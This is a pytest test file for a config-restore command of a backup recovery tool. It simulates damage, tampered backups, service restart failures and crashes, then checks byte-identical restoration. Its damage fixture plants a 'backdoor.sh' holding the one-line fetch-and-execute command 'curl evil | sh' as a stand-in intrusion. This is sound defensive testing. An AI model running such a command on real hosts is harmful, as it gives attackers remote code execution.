"""`recovery restore config`: real moto over HTTP, real tar and files, real service commands, the CLI as a
real process (and killed with SIGKILL mid-run)."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any, Iterator

import pytest

from recovery.backups.take import BackupOptions, backup_config

from _restore_fixtures import RSite, drop_test_databases, listing, make_rsite, tree

RB = "restore-config"
STEPS = ["verify-backup", "list-members", "extract-staging", "check-staged", "swap-in"]


@pytest.fixture()
def rs(moto_server: Any, pg: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[RSite]:
    s = make_rsite(moto_server, pg, tmp_path, monkeypatch, rows=0)
    yield s
    drop_test_databases(pg, s.db)


class Conf:
    """Two configuration directories and a single file, as a host would hold them."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.xai = base / "etc" / "xai"
        self.prom = base / "etc" / "prometheus"
        self.stackfile = base / "srv" / "Pulumi.production.yaml"
        (self.xai / "conf.d").mkdir(parents=True)
        (self.xai / "node.toml").write_text("[node]\nport = 8080\n")
        (self.xai / "conf.d" / "explorer.toml").write_text("[explorer]\nnode = 'http://localhost:8080'\n")
        (self.xai / "secret.key").write_bytes(os.urandom(64))
        os.chmod(self.xai / "secret.key", 0o600)
        os.symlink("node.toml", self.xai / "current.toml")
        (self.prom / "rules").mkdir(parents=True)
        (self.prom / "prometheus.yml").write_text("scrape_configs:\n  - job_name: xai\n")
        (self.prom / "rules" / "dr.yml").write_text("groups: []\n")
        self.stackfile.parent.mkdir(parents=True)
        self.stackfile.write_text("config:\n  xai:production: true\n")

    @property
    def roots(self) -> list[Path]:
        return [self.xai, self.prom, self.stackfile]

    def state(self) -> dict[str, Any]:
        """Content and modes of every root: what 'byte-identical' is judged by."""
        out: dict[str, Any] = {}
        for r in self.roots:
            if r.is_dir():
                out[str(r)] = {k: (v, stat.S_IMODE((r / k).lstat().st_mode)) for k, v in tree(r).items()}
            elif r.exists():
                out[str(r)] = r.read_bytes()
            else:
                out[str(r)] = None
        return out

    def damage(self) -> None:
        (self.xai / "node.toml").write_text("[node]\nport = 6666  # attacker\n")
        (self.xai / "backdoor.sh").write_text("curl evil | sh\n")
        for p in self.prom.rglob("*"):
            if p.is_file():
                p.unlink()
        (self.prom / "rules").rmdir()
        self.prom.rmdir()
        self.stackfile.write_text("tampered\n")


@pytest.fixture()
def conf(tmp_path: Path) -> Conf:
    return Conf(tmp_path / "host")


def backup(rs: RSite, c: Conf) -> Any:
    return backup_config(rs.act_as("backup"), [str(p) for p in c.roots], BackupOptions(s3=rs.s3()))


def quarantines(c: Conf) -> list[Path]:
    return sorted(p for r in c.roots for p in r.parent.glob(f".{r.name}.quarantine-*"))


def leftovers(c: Conf) -> list[Path]:
    return sorted(p for r in c.roots for p in r.parent.glob(f".{r.name}.restore-*"))


def untouched(c: Conf) -> list[tuple[str, int, int]]:
    """listing() of the host's files, without the mtimes of the roots' parents (a staging was made
    and removed there): every live path with the same inode and mtime means nothing was changed."""
    parents = {str(r.parent) for r in c.roots} | {str(c.base)}
    return [(p, ino, 0 if p in parents else mt) for p, ino, mt in listing(c.base)]


def _last(r: Any) -> str:
    return r.err.strip().splitlines()[-1]


def services_config(rs: RSite, broken: Path) -> Path:
    """xai-explorer's start fails while `broken` exists (as a service refusing a bad config would)."""
    d, log = rs.services.dir, rs.services.log
    svcs = []
    for n in ("xai-node", "xai-explorer"):
        f = d / f"{n}.running"
        start = f"echo start:{n} >> {log}; touch {f}"
        if n == "xai-explorer":
            start = f"if [ -e {broken} ]; then echo {n}: bad config >&2; exit 1; fi; " + start
        svcs.append({"name": n, "stop": ["sh", "-c", f"echo stop:{n} >> {log}; rm -f {f}"], "start": ["sh", "-c", start],
                     "status": ["sh", "-c", f"test -e {f} || exit 3"], "timeout_seconds": 10})
    cfg = d / "services-restart.json"
    cfg.write_text(json.dumps({"services": svcs, "start_order": ["xai-node", "xai-explorer"]}))
    return cfg


# ------------------------------------------------------------------------------------ round trips


def test_damaged_and_deleted_config_is_restored_byte_identical(rs: RSite, conf: Conf) -> None:
    original = conf.state()
    m = backup(rs, conf)
    conf.damage()
    damaged_xai = tree(conf.xai)
    r = rs.cli("config", "--yes", "--json")
    assert r.code == 0, r.err
    assert conf.state() == original  # content, modes (0600 key), the symlink, all three roots
    assert (conf.xai / "current.toml").is_symlink()
    j = r.json()
    assert [s["name"] for s in j["steps"]] == STEPS and j["status"] == "ok"
    assert j["params"]["backup_key"] == m.key
    kept = {s["name"]: s for s in j["steps"]}["swap-in"]["detail"]["quarantined"]
    assert kept[str(conf.prom)] == "(nothing was there)"
    (qx, qs) = quarantines(conf)  # the replaced directory and file are kept, never deleted
    assert tree(qx) == damaged_xai and qs.read_text() == "tampered\n"
    assert kept[str(conf.xai)] == str(qx) and leftovers(conf) == []


def test_path_restores_only_that_root_and_lists_the_quarantine(rs: RSite, conf: Conf) -> None:
    original = conf.state()
    backup(rs, conf)
    conf.damage()
    damaged = conf.state()
    r = rs.cli("config", "--yes", "--path", str(conf.xai))
    assert r.code == 0, r.err
    now = conf.state()
    assert now[str(conf.xai)] == original[str(conf.xai)]
    assert now[str(conf.prom)] is None and now[str(conf.stackfile)] == damaged[str(conf.stackfile)]
    (q,) = quarantines(conf)
    assert r.out.strip() == f"kept the previous {conf.xai} as {q}"


def test_path_inside_a_root_restores_one_file(rs: RSite, conf: Conf) -> None:
    original = conf.state()
    backup(rs, conf)
    conf.damage()
    r = rs.cli("config", "--yes", "--path", str(conf.xai / "node.toml"))
    assert r.code == 0, r.err
    assert (conf.xai / "node.toml").read_text() == "[node]\nport = 8080\n"
    assert (conf.xai / "backdoor.sh").exists()  # only that file was asked for
    assert tree(conf.xai) != original[str(conf.xai)]


def test_dry_run_changes_nothing_and_names_the_backup(rs: RSite, conf: Conf) -> None:
    m = backup(rs, conf)
    conf.damage()
    before, keys = listing(conf.base), rs.keys()
    r = rs.cli("config", "--dry-run")
    assert r.code == 0, r.err
    assert f"Plan for {RB}" in r.err and m.key in r.err and "swap-in" in r.err
    assert listing(conf.base) == before and rs.keys() == keys and not rs.journal_dir.exists()
    j = rs.cli("config", "--dry-run", "--json").json()
    assert j["dry_run"] and j["params"]["backup_key"] == m.key and j["params"]["backup"] == "latest"


# ------------------------------------------------------------------------------------ bad input


@pytest.mark.parametrize("dry", [False, True])
def test_unknown_backup_is_refused(rs: RSite, conf: Conf, dry: bool) -> None:
    backup(rs, conf)
    before = listing(conf.base)
    r = rs.cli("config", "--yes", "--backup", "config-20200101T000000Z.tar.gz", *(["--dry-run"] if dry else []))
    assert r.code == 4 and _last(r).startswith("error: no catalogued backup backups/config/config-2020"), r.err
    assert len(r.err.strip().splitlines()) == 1
    assert listing(conf.base) == before and not rs.journal_dir.exists()


def test_no_config_backup_at_all(rs: RSite, conf: Conf) -> None:
    r = rs.cli("config", "--yes", "--dry-run")
    assert r.code == 4 and "no config backup in s3://" in _last(r), r.err


def test_path_not_in_the_backup_is_refused(rs: RSite, conf: Conf, tmp_path: Path) -> None:
    backup(rs, conf)
    before = listing(conf.base)
    r = rs.cli("config", "--yes", "--path", str(tmp_path / "elsewhere"))
    assert r.code == 4 and "is not in backup" in _last(r) and str(conf.xai) in _last(r), r.err
    assert listing(conf.base) == before and not rs.journal_dir.exists()


def test_unknown_restart_service_is_refused_before_anything(rs: RSite, conf: Conf) -> None:
    backup(rs, conf)
    conf.damage()
    before = listing(conf.base)
    r = rs.cli("config", "--yes", "--restart", "xai-explorr")
    assert r.code == 4 and _last(r) == ("error: unknown service 'xai-explorr' - configured: xai-node, xai-explorer"), r.err
    assert listing(conf.base) == before and not rs.journal_dir.exists() and rs.services.actions() == []


# ------------------------------------------------------------------------------------ failure paths


def test_bad_checksum_leaves_live_files_untouched(rs: RSite, conf: Conf) -> None:
    m = backup(rs, conf)
    conf.damage()
    body = rs.s3().get_object(Bucket=rs.bucket, Key=m.key)["Body"].read()
    rs.s3().put_object(Bucket=rs.bucket, Key=m.key, Body=body[:-40] + bytes(40))
    before = listing(conf.base)
    r = rs.cli("config", "--yes")
    assert r.code == 8 and _last(r).startswith("error: step 'verify-backup'") and "checksum" in _last(r), r.err
    assert listing(conf.base)[1:] == before[1:] and leftovers(conf) == [] and quarantines(conf) == []


def test_member_outside_the_manifests_roots_is_refused(rs: RSite, conf: Conf) -> None:
    """A manifest that names fewer paths than the archive holds (tampered, or not ours): nothing is written."""
    m = backup(rs, conf)
    key = m.key + ".manifest.json"
    doc = json.loads(rs.s3().get_object(Bucket=rs.bucket, Key=key)["Body"].read())
    doc["source"] = str(conf.xai)
    rs.s3().put_object(Bucket=rs.bucket, Key=key, Body=json.dumps(doc).encode())
    before = listing(conf.base)
    r = rs.cli("config", "--yes")
    assert r.code == 8 and "step 'list-members'" in _last(r) and "outside the backup's roots" in _last(r), r.err
    assert listing(conf.base)[1:] == before[1:] and leftovers(conf) == []


def test_restart_failing_after_the_swap_is_reported_and_rerun_resumes(rs: RSite, conf: Conf) -> None:
    original = conf.state()
    backup(rs, conf)
    conf.damage()
    broken = rs.services.dir / "explorer-broken"
    broken.touch()
    env = {"RECOVERY_SERVICES_CONFIG": str(services_config(rs, broken))}
    r = rs.cli("config", "--yes", "--restart", "xai-node", "--restart", "xai-explorer", env=env)
    assert r.code == 15 and "step 'restart'" in _last(r) and "could not start xai-explorer" in _last(r), r.err
    assert conf.state() == original and len(quarantines(conf)) == 2  # the swap stands; nothing undone
    broken.unlink()
    r = rs.cli("config", "--yes", "--json", "--restart", "xai-node", "--restart", "xai-explorer", env=env)
    assert r.code == 0, r.err
    j = r.json()
    assert j["status"] == "ok" and len(j["attempts"]) == 2
    assert conf.state() == original and len(quarantines(conf)) == 2 and leftovers(conf) == []
    assert rs.services.actions()[-4:] == ["stop:xai-node", "start:xai-node", "stop:xai-explorer", "start:xai-explorer"]
    assert all(rs.services.running().values())


KILLS = [(step, "after") for step in STEPS]
KILLS.insert(STEPS.index("swap-in"), ("swap-in", "before"))


def test_sigkill_at_every_step_then_rerun_finishes(rs: RSite, conf: Conf) -> None:
    original = conf.state()
    backup(rs, conf)
    conf.damage()
    damaged = conf.state()
    for step, when in KILLS:
        rs.crash("config", "--yes", at=f"{RB}:{step}:{when}")
        swapped = step == "swap-in" and when == "after"
        assert conf.state() == (original if swapped else damaged), f"kill at {step}:{when}"
    r = rs.cli("config", "--yes", "--json")
    assert r.code == 0, r.err
    j = r.json()
    assert j["status"] == "ok" and len(j["attempts"]) == len(KILLS) + 1
    assert conf.state() == original and leftovers(conf) == [] and len(quarantines(conf)) == 2


def test_nested_roots_restore_once(rs: RSite, conf: Conf) -> None:
    """`backup config /etc/xai /etc/xai/conf.d` archives conf.d twice; it is restored with its parent."""
    original = tree(conf.xai)
    backup_config(rs.act_as("backup"), [str(conf.xai), str(conf.xai / "conf.d")], BackupOptions(s3=rs.s3()))
    (conf.xai / "conf.d" / "explorer.toml").write_text("broken\n")
    r = rs.cli("config", "--yes")
    assert r.code == 0, r.err
    assert tree(conf.xai) == original and r.out.count("kept the previous") == 1


def test_disk_full_while_staging_leaves_nothing(rs: RSite, conf: Conf) -> None:
    backup(rs, conf)
    conf.damage()
    before = untouched(conf)
    r = rs.cli("config", "--yes", env={"RECOVERY_TEST_FAULT": "enospc"})
    assert r.code == 4 and "step 'extract-staging'" in _last(r) and "No space left" in _last(r), r.err
    assert untouched(conf) == before and leftovers(conf) == [] and quarantines(conf) == []
